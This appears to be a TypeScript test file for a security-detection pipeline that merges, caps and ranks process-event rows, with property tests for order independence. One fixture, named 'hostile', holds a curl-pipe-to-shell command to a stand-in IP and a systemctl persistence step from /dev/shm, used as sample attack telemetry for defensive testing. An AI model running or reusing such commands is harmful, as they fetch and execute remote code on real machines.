import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import type { CaseFacts } from '../../src/pipeline/build-case.ts';
import { buildCase } from '../../src/pipeline/build-case.ts';
import { factsOf, hasNews, mergeFacts } from '../../src/pipeline/merge-facts.ts';
import { MAX_ROWS, mostTelling } from '../../src/pipeline/most-telling.ts';
import type { ExplainedRow } from '../../src/rule/explained.schema.ts';
import { sampleCase } from '../support/sample-case.ts';
import { fc } from '../support/seed.ts';

function row(command: string, rest: Partial<ExplainedRow> = {}): ExplainedRow {
  return {
    table: 'DeviceProcessEvents',
    source: 'stream',
    columns: { Timestamp: '2026-01-15T08:00:00Z', ProcessCommandLine: command },
    hit: 'match',
    branches: [],
    ...rest,
  };
}

const plain = (from: number, count: number): readonly ExplainedRow[] =>
  Array.from({ length: count }, (_, index) => row(`systemctl enable unit-${from + index}.service`));
const hostile = row('systemctl link /dev/shm/.x/evil.service', {
  columns: {
    Timestamp: '2026-01-15T08:00:00Z',
    ProcessCommandLine: 'systemctl enable --now /dev/shm/.x/evil.service',
    InitiatingProcessCommandLine: 'bash -c "curl http://198.51.100.7/x | sh"',
  },
});
const missed = plain(10_000, 20).map((one): ExplainedRow => ({ ...one, hit: 'no-match' }));

const facts = (events: readonly ExplainedRow[]): CaseFacts => ({
  ...factsOf(sampleCase()),
  gaps: [],
  events,
});
const merged = (...deliveries: readonly (readonly ExplainedRow[])[]): CaseFacts =>
  deliveries.map(facts).reduce((known, more) => mergeFacts(known, more), facts([]));

describe('the rows of a case', () => {
  it('are all of them up to the limit, and no gap', () => {
    const { events, gaps } = merged(plain(0, MAX_ROWS));
    assert.equal(events.length, MAX_ROWS);
    assert.deepEqual(gaps, []);
  });

  it('are those that show an attack and those that the rule hits, in any order of delivery, and a gap says so', () => {
    const deliveries = [missed, plain(0, 400), [hostile], plain(300, 400)];
    const one = merged(...deliveries);
    assert.equal(one.events.length, MAX_ROWS);
    assert.ok(one.events.includes(hostile));
    assert.ok(one.events.every(({ hit }) => hit === 'match'));
    assert.deepEqual(one.gaps, ['rows.too-many']);
    assert.deepEqual(merged(...deliveries.toReversed()), one);
    assert.deepEqual(merged(deliveries.flat()), one);
  });

  it('are no news when they come again, and the gap stays', () => {
    const all = merged(plain(0, 600));
    const stored = buildCase(all, [], new Date('2026-01-15T09:00:00Z'));
    const again = mergeFacts(factsOf(stored), facts(plain(0, 600)));
    assert.equal(hasNews(stored, again), false);
    assert.deepEqual(mergeFacts(factsOf(stored), facts(plain(0, 1))).gaps, ['rows.too-many']);
  });
});

describe('mostTelling', () => {
  it('keeps the same rows whichever come first and however they are put together', () => {
    const some = fc.uniqueArray(fc.nat(60), { maxLength: 30 }).map((numbers) =>
      numbers.map((number) => {
        const [one] = number === 7 ? [hostile] : plain(number, 1);
        return {
          ...(one as ExplainedRow),
          hit: number % 3 === 0 ? ('match' as const) : ('unknown' as const),
        };
      }),
    );
    const join = (...lists: readonly (readonly ExplainedRow[])[]): readonly ExplainedRow[] => {
      const distinct = new Map(lists.flat().map((one) => [JSON.stringify(one), one]));
      return mostTelling(
        [...distinct.entries()].sort(([a], [b]) => (a < b ? -1 : 1)).map(([, one]) => one),
        10,
      );
    };
    fc.assert(
      fc.property(some, some, some, (a, b, c) => {
        const all = join(a, b, c);
        assert.deepEqual(join(c, b, a), all);
        assert.deepEqual(join(join(a, b), c), all);
        assert.deepEqual(join(a, join(b, c)), all);
        assert.deepEqual(join(all, all), all);
      }),
    );
  });
});
